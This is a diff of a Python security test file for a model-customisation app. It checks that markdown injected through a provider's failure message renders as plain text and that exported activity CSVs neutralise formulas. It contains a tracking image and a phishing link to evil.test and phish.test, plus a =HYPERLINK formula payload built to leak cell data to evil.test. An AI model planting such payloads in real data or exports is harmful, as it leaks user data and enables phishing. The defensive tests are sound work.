@@ -7,25 +7,17 @@ from __future__ import annotations
 import re
 
 import orjson
-import pytest
 from fastapi.testclient import TestClient
 
 from api.app import create_api
 from services.customization import NewCustomModel
 from tests.apptest import APP, make_app, world  # noqa: F401 - the page tests' fixtures
+from tests.factories import LLAMA, jsonl
 from tests.fakes import ADMIN, World
-from tests.security.conftest import LLAMA, jsonl
 from ui.state import Key
 
 TRACKER = "![t](http://evil.test/track.png)"
 PHISH = "[Login](http://phish.test)"
-
-
-@pytest.fixture
-def ready(world: World) -> World:  # noqa: F811 - the fixture, by name
-    world.catalog.sync(actor=ADMIN)
-    world.catalog.enable(LLAMA, actor=ADMIN)
-    return world
 
 
 def unescaped_markup(text: str) -> list[str]:
@@ -33,18 +25,18 @@ def unescaped_markup(text: str) -> list[str]:
     return re.findall(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\((?:http|//)", text)
 
 
-def test_a_providers_failure_message_renders_as_text(ready: World, make_app) -> None:  # noqa: F811
+def test_a_providers_failure_message_renders_as_text(w: World, make_app) -> None:  # noqa: F811
     uri = "s3://my-data/sets/train.jsonl"
-    ready.objects.put_bytes(uri, jsonl(130))
-    model = ready.customization.create(NewCustomModel(name="victim", base_model_id=LLAMA), uri, actor=ADMIN)
+    w.objects.put_bytes(uri, jsonl(130))
+    model = w.customization.create(NewCustomModel(name="victim", base_model_id=LLAMA), uri, actor=ADMIN)
     # After the checks, the data is swapped in place: Bedrock's own validation now fails the job,
     # and its message quotes the attacker's text.
     evil = orjson.dumps({"prompt": "a", "completion": "b"}).replace(
         b'"prompt"', f'"{TRACKER} {PHISH}": 1, "{TRACKER} {PHISH}"'.encode()
     )
-    ready.objects.put_bytes(uri, jsonl(130) + evil + b"\n")
-    ready.clock.advance(seconds=3)
-    failed = ready.customization.refresh(model.id)
+    w.objects.put_bytes(uri, jsonl(130) + evil + b"\n")
+    w.clock.advance(seconds=3)
+    failed = w.customization.refresh(model.id)
     assert failed.failure_message and "evil.test" in failed.failure_message
     at = make_app().run()
     at.switch_page("views/custom_model.py")
@@ -57,19 +49,19 @@ def test_a_providers_failure_message_renders_as_text(ready: World, make_app) -> 
     assert unescaped_markup(f"{TRACKER} {PHISH}")  # (the check does find markup when there is some)
 
 
-def test_the_activity_export_neutralises_formulas(ready: World) -> None:
+def test_the_activity_export_neutralises_formulas(w: World) -> None:
     from ui.activity_view import activity_frame
     from ui.components import csv_bytes
 
-    client = TestClient(create_api(lambda: ready.services), client=("127.0.0.1", 50000))
+    client = TestClient(create_api(lambda: w.services), client=("127.0.0.1", 50000))
     attack = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
     r = client.post(f"/models/{LLAMA}/disable", headers={"X-Request-Id": attack})
     assert r.status_code == 200
-    data = csv_bytes(activity_frame(ready.services.audit.audit_events())).decode()
+    data = csv_bytes(activity_frame(w.services.audit.audit_events())).decode()
     assert "'=HYPERLINK" in data and ",=HYPERLINK" not in data and '"=HYPERLINK' not in data
 
 
-def test_an_over_long_s3_key_in_the_form_gets_a_clear_message(ready: World, make_app) -> None:  # noqa: F811
+def test_an_over_long_s3_key_in_the_form_gets_a_clear_message(w: World, make_app) -> None:  # noqa: F811
     at = make_app().run()
     at.switch_page("views/new_model.py").run()
     at.text_input(key=Key.NM_NAME).set_value("long-key")
